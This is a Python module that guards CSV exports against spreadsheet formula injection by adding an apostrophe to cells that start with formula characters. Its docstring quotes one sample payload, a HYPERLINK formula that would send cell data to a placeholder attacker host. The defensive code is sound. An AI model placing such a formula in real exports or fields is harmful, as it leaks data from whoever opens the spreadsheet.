"""CSV files that spreadsheets open as data, never as formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
evaluated by Excel, LibreOffice and Google Sheets as a formula (CSV injection, OWASP):
a username like ``=HYPERLINK("http://evil.example/?"&A1)`` in an audit export would
send data away when clicked. Such text cells get a leading apostrophe, which the
spreadsheet shows as text. Numbers, dates and empty cells pass unchanged.
"""

import csv
from collections.abc import Iterable, Iterator
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: Any) -> Any:
    """Return ``value`` as a CSV cell that no spreadsheet evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Yield ``rows`` as CSV lines, each cell made safe for spreadsheets (for streaming)."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([spreadsheet_cell(cell) for cell in row])
